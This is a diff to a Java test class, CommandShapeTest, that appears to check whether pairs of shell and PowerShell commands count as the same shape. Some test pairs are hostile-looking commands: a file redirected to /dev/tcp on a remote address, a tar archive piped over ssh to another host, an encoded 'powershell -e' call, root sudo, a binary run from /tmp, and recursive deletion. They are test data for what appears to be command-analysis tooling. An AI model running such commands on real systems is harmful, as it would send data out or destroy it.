@@ -69,6 +69,10 @@ class CommandShapeTest {
         "/opt/b1f3a9b7/agent-0042 run <> /opt/x/agent-0099 run",
         "# ls -l <> ls -l",
         "PS C:\\> ls -l <> ls -l",
+        "tar cf a.tar x | ssh h 'cat > b' <> tar cf c.tar y | ssh i 'cat > d'",
+        "$a = 'x.txt' <> $b = \"y.txt\"",
+        "sudo -nu root id <> sudo -nu bob id",
+        "/tmp/fz8q1k2mm9x3t -v <> /tmp/a1b2c3d4e5f6g -v",
         "msiexec /i C:\\a.msi /qn <> msiexec /qn /i D:\\b.msi",
       })
   void isThatOfItsLike(String a, String b) {
@@ -105,6 +109,8 @@ class CommandShapeTest {
         "cat x > /dev/tcp/1.2.3.4/5 <> cat x > y",
         "powershell -e ZQBjAGgAbwAgADEA <> powershell -e ZQBjAGgAbwAgADIA",
         "echo aGVsbG8gd29ybGQsIGhlbGxv <> echo aGVsbG8gd29ybGQsIGhlbGxw",
+        "Move-Item x \"$dir\\\" -Force <> Move-Item x \"$dir\\\" -LiteralPath",
+        "del \"C:\\a b\\\" /s <> del \"C:\\a b\\\" /q",
         "printf '\\x41\\x42\\x43\\x44' <> printf '\\x41\\x42\\x43\\x45'",
       })
   void isNotThatOfAnother(String a, String b) {
